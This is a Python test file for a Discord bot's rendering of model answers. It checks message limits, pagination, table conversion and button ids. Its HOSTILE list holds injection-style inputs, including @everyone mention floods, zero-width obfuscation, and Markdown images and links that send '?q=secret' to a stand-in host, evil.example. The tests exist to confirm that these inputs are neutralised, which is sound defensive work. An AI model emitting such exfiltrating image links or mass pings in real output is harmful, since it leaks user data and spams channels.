"""What models write, as Discord shows it: whole, within its limits, and harming nobody."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import pytest
from discord.http import handle_message_parameters
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.fakes.discord.reading import fetched, pings
from tests.fakes.discord.rules import check_message
from tests.fakes.discord.world import COMPONENTS_V2, Channel, Json, Post, User, texts

from moabot.contract import Agreement, Answer, Proposal, Usage
from moabot_platforms.discord import layout
from moabot_platforms.discord.layout import Marker, Page
from moabot_platforms.discord.marks import Press, mark, nonce, read_press
from moabot_platforms.discord.markup import shown
from moabot_platforms.markdown import JOINER
from moabot_platforms.progress import Progress

USAGE = Usage(1, 10, 0, 5, Decimal("0.001"))
MARKER = Marker("i1234567890123456789", "p1234567890123456789")
BLNS: list[str] = json.loads(
    (Path(__file__).parents[1] / "corpora" / "blns.json").read_text(encoding="utf-8")
)
HOSTILE = [
    "@everyone and @here",
    "<@123456789012345678> <@!123456789012345678> <@&123456789012345678> <#123456789012345678>",
    "![x](https://evil.example/?q=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "[click](https://evil.example/?q=secret) https://evil.example/page. (https://evil.example/c)",
    "HTTPS://EVIL.EXAMPLE/upper <https://evil.example/quiet>",
    "```\n@everyone ![x](https://evil.example)\n```",
    "`@everyone` ``https://evil.example``",
    "| a | b |\n|---|---|\n| @everyone | https://evil.example |",
    "\u202e@everyone\u0000 @\u200beveryone",
    "```py\nnever closed @here https://evil.example",
    "\u200e\u0000",
    "\n" * 9000 + "x",
    "# ![a][b]\n\n[b]: https://evil.example/ref.png",
]


def answer(text: str) -> Answer:
    """An answer with all that stands under one."""
    return Answer(
        text,
        "mixture",
        "thorough",
        agreement=Agreement(2, 3),
        degraded="2 of 3 models answered in time. " * 40,
        usage=USAGE,
        seconds=3.2,
    )


def pages(text: str, *, most: int = 1000) -> list[Page]:
    """The pages of an answer."""
    return layout.answered(answer(text), MARKER, money=True, most=most)


def components(page: Page) -> list[Json]:
    """A page as it goes to Discord."""
    with handle_message_parameters(view=page.view()) as sent:
        assert sent.payload is not None
        parts: list[Json] = sent.payload["components"]
        return parts


def check(page: Page) -> None:
    """Discord would take it, ring nobody and fetch nothing for it."""
    parts = components(page)
    files = {"answer.md": page.attached.encode()} if page.attached else {}
    check_message(content="", embeds=[], components=parts, flags=COMPONENTS_V2, files=files)
    post = Post("1", Channel("2", "general"), User("3", "moabot", bot=True), "", components=parts)
    assert fetched(post) == []
    assert pings("", parts, allowed=None, reply_to=None) == []


@pytest.mark.parametrize("text", HOSTILE)
async def test_nothing_that_a_model_writes_rings_or_is_fetched(text: str) -> None:
    """Were `allowed_mentions` forgotten one day, nobody would be rung all the same."""
    for page in pages(text):
        check(page)


async def test_naughty_strings_are_shown_within_discords_limits() -> None:
    """Each of them has broken a program somewhere."""
    for text in filter(str.strip, BLNS):
        for page in pages(text):
            check(page)


@given(st.text(alphabet=st.sampled_from("ab .\n`#*|-@<>:/[]()!🦊é1"), max_size=9000))
@settings(max_examples=60, deadline=None)
async def test_any_text_makes_messages_that_discord_takes(text: str) -> None:
    """A message that is refused is an answer lost."""
    for page in pages(f"x{text}"):
        check(page)


@pytest.mark.parametrize("length", [1, 100, 2999, 3000, 3001, 20_000, 100_000])
async def test_no_word_is_lost_at_any_length(length: int) -> None:
    """The end of an answer is where its conclusion stands."""
    text = "".join(f"word{number} " for number in range(length // 4 + 1))[:length].strip() or "x"
    whole = pages(text)
    attached = pages(text, most=5)

    said = "".join("".join(texts(components(page)[:1])) for page in whole)
    assert said.split() == text.split() or "".join(said.split()) == "".join(text.split())
    assert len(attached) <= 5
    assert attached[-1].attached in {"", text}
    assert bool(attached[-1].attached) == (len(whole) > 5)


def test_a_table_becomes_even_columns() -> None:
    """Discord shows the bars and dashes of a Markdown table as they are."""
    told = shown(
        "Before\n\n| city | people |\n|---|---:|\n| Oslo | 700 |\n| 東京 | 14000 |\n\nAfter"
    )

    assert told.split("\n") == [
        "Before",
        "",
        "```",
        "city │ people",
        "─────┼───────",
        "Oslo │ 700",
        "東京 │ 14000",
        "```",
        "",
        "After",
    ]


def test_what_discord_does_not_know_becomes_what_it_knows() -> None:
    """Four hashes and three dashes would stand there as such; code stays as it is."""
    told = shown("#### Deep **one** ##\n\n---\n\n```\n#### code\n---\n```\n\n## Fine")

    assert told == f"**Deep one**\n\n{'⎯' * 12}\n\n```\n#### code\n---\n```\n\n## Fine"


def test_a_fence_in_a_table_does_not_end_its_block() -> None:
    """What followed would stand outside, where it could mention."""
    told = shown("| a |\n|---|\n| x ``` y |")

    assert told.count("```") == 2
    assert f"``{JOINER}`" in told


def test_links_keep_their_whole_address() -> None:
    """A link that lost its last bracket leads nowhere."""
    told = shown("See https://en.wikipedia.org/wiki/Moa_(bird), or [this](https://a.example/b).")

    assert "<https://en.wikipedia.org/wiki/Moa_(bird)>," in told
    assert "[this](<https://a.example/b>)." in told


@pytest.mark.virtual_time
async def test_the_text_on_its_way_fits_whatever_its_length() -> None:
    """An edit that is refused would end all further ones."""
    progress = Progress()
    for place in range(40):
        progress.asked(f"1.{place}", "m" * 300, "analytical")
    for length in (1, 2900, 4000, 200_000):
        progress.restarted()
        progress.wrote("".join(f"word{number} " for number in range(length))[:length])
        check(layout.thinking(progress, MARKER))


@pytest.mark.parametrize("count", [0, 1, 2, 30])
async def test_proposals_are_turned_page_by_page(count: int) -> None:
    """Each button leads to another page, so no two are one."""
    proposals = [
        Proposal(f"1.{n}", f"m{n}", "critical", f"Text {n}. " * 400, USAGE, 1.0)
        for n in range(count)
    ]
    for number in range(3 * count + 1):
        check(layout.proposal_page(proposals, MARKER, number))


def test_a_button_says_what_it_is_for_in_a_hundred_characters() -> None:
    """Discord takes no longer id; the longest must come back as it was."""
    press = Press("turned", MARKER.event_id, MARKER.thread, 9999)

    assert len(str(press)) <= 100
    assert read_press(str(press)) == press
    assert read_press("moabot:good:1:1:0:more") is None
    assert read_press("somebody else's") is None


def test_marks_and_nonces_tell_pages_apart() -> None:
    """Two pages with one mark would overwrite each other after a crash."""
    marks = {mark(f"i{event}", page) for event in range(200) for page in range(20)}
    words = {nonce("1", page, again) for page in range(20) for again in range(20)}

    assert len(marks) == 4000
    assert all(1000 <= number < 2**31 for number in marks)
    assert len(words) == 400
    assert max(map(len, words)) <= 25
